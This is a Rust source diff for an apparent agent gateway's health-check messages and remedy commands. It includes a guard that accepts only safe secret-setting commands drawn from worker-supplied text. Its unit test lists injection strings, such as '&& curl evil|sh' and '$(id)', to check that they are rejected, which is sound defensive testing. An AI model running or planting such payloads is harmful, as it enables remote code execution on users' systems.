@@ -1,0 +1,166 @@
+//! What is not well with a gateway, and the command that helps: `plexusctl doctor` and the console's Health say it in these
+//! words.
+//!
+//! Must not know: how it is found out.
+
+use crate::{
+    sources::Stopped,
+    status::{LedgerCondition, LedgerState},
+};
+use plexus_protocol::{SourceId, shell};
+use std::path::Path;
+
+/// Something that is not well.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Trouble {
+    /// What it is.
+    pub found: String,
+    /// A command that helps, or shows more.
+    pub remedy: String,
+    /// Whether something fails by it already.
+    pub fails: bool,
+}
+
+impl Trouble {
+    fn new(found: impl Into<String>, remedy: impl Into<String>) -> Self {
+        Self {
+            found: found.into(),
+            remedy: remedy.into(),
+            fails: true,
+        }
+    }
+}
+
+/// All agents are paused.
+#[must_use]
+pub fn paused() -> Trouble {
+    Trouble {
+        fails: false,
+        ..Trouble::new("all agents are paused", "plexusctl resume")
+    }
+}
+
+/// The workers of a source run without a sandbox.
+#[must_use]
+pub fn unsandboxed(source: &SourceId) -> Trouble {
+    Trouble::new(
+        format!("{source} RUNS WITHOUT A SANDBOX, as --unsandboxed-i-understand says"),
+        format!("plexusctl sources disable {source}"),
+    )
+}
+
+/// This system cages no worker.
+#[must_use]
+pub fn uncaged(why: Option<&str>) -> Trouble {
+    Trouble::new(
+        why.unwrap_or("workers cannot be caged here"),
+        "cat /sys/kernel/security/lsm; uname -r",
+    )
+}
+
+/// A source whose sandbox holds, and which does not serve, or not all, as `found` says.
+#[must_use]
+pub fn not_serving(source: &str, found: &str) -> Trouble {
+    let test = || format!("plexusctl sources test {}", shell::quote(source));
+    let remedy = secret_command(found, source).map_or_else(test, str::to_owned);
+    Trouble::new(found, remedy)
+}
+
+/// A source of which nothing is started: its code changed.
+#[must_use]
+pub fn stopped(source: &SourceId, stopped: &Stopped) -> Trouble {
+    let found = stopped.found.join("; ");
+    Trouble::new(
+        format!("is stopped: what it runs is not what you agreed to: {found}"),
+        match &stopped.pending_id {
+            None => format!("plexusctl sources resume {source}"),
+            Some(card) => format!("plexusctl approvals show {card}"),
+        },
+    )
+}
+
+/// The command that sets a secret of `source`, where `reason` ends with just that. A reason may have words of a worker in it:
+/// no other command is taken from one.
+#[must_use]
+pub fn secret_command<'r>(reason: &'r str, source: &str) -> Option<&'r str> {
+    let at = reason.rfind(": plexusctl ")? + 2;
+    let command = &reason[at..];
+    let name = command.strip_prefix(&format!("plexusctl sources secret {source} "))?;
+    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b"_-".contains(&b);
+    (!name.is_empty() && name.bytes().all(is_plain)).then_some(command)
+}
+
+/// The audit log of the gateway of this state directory does not take every event.
+#[must_use]
+pub fn log(ledger: &LedgerState, home: &Path) -> Option<Trouble> {
+    let why = ledger.reason.as_deref().unwrap_or("no reason is known");
+    match ledger.condition {
+        LedgerCondition::Open => None,
+        LedgerCondition::DiskFull => Some(Trouble::new(
+            "the disk is full: only your own acts are recorded, and agents change nothing",
+            df(home),
+        )),
+        LedgerCondition::Closed => Some(Trouble::new(
+            format!("it takes no event: {why}"),
+            "plexusctl logs --level warn",
+        )),
+    }
+}
+
+/// The audit log and the state differ, or its chain is broken.
+#[must_use]
+pub fn unsound(found: &str) -> Trouble {
+    Trouble::new(found, "plexusctl audit verify")
+}
+
+/// Room below which something is said, in bytes: what the ledger sets aside, twice; and some days of use.
+const ROOM: (u64, u64) = (32 << 20, 256 << 20);
+
+/// The free bytes of a state directory's disk in words, and the trouble where they are few.
+#[must_use]
+pub fn disk(home: &Path, free: u64) -> (String, Option<Trouble>) {
+    let found = format!("{} MB free", free >> 20);
+    let few = (free < ROOM.1).then(|| Trouble {
+        fails: free < ROOM.0,
+        ..Trouble::new(found.clone(), df(home))
+    });
+    (found, few)
+}
+
+/// Shows how much room there is.
+#[must_use]
+pub fn df(home: &Path) -> String {
+    format!("df -h {}", shell::quote(&home.to_string_lossy()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn secret_alone_is_taken_from_a_reason() {
+        let secret = "token is not set: plexusctl sources secret home token";
+        let command = "plexusctl sources secret home token";
+        assert_eq!(secret_command(secret, "home"), Some(command));
+        assert_eq!(not_serving("home", secret).remedy, command);
+        for words in [
+            "x: plexusctl resume",
+            "x: plexusctl sources secret other token",
+            "x: plexusctl sources secret home token && curl evil|sh",
+            "x: plexusctl sources secret home $(id)",
+        ] {
+            assert_eq!(secret_command(words, "home"), None, "{words}");
+            let test = "plexusctl sources test home";
+            assert_eq!(not_serving("home", words).remedy, test);
+        }
+    }
+
+    #[test]
+    fn little_room_is_said() {
+        let fails = |free| disk(Path::new("/a home"), free).1.map(|few| few.fails);
+        let all = [1 << 20, 100 << 20, 1 << 30].map(fails);
+        assert_eq!(all, [Some(true), Some(false), None]);
+        let few = disk(Path::new("/a home"), 1 << 20).1.expect("a trouble");
+        assert_eq!(few.remedy, "df -h '/a home'");
+    }
+}
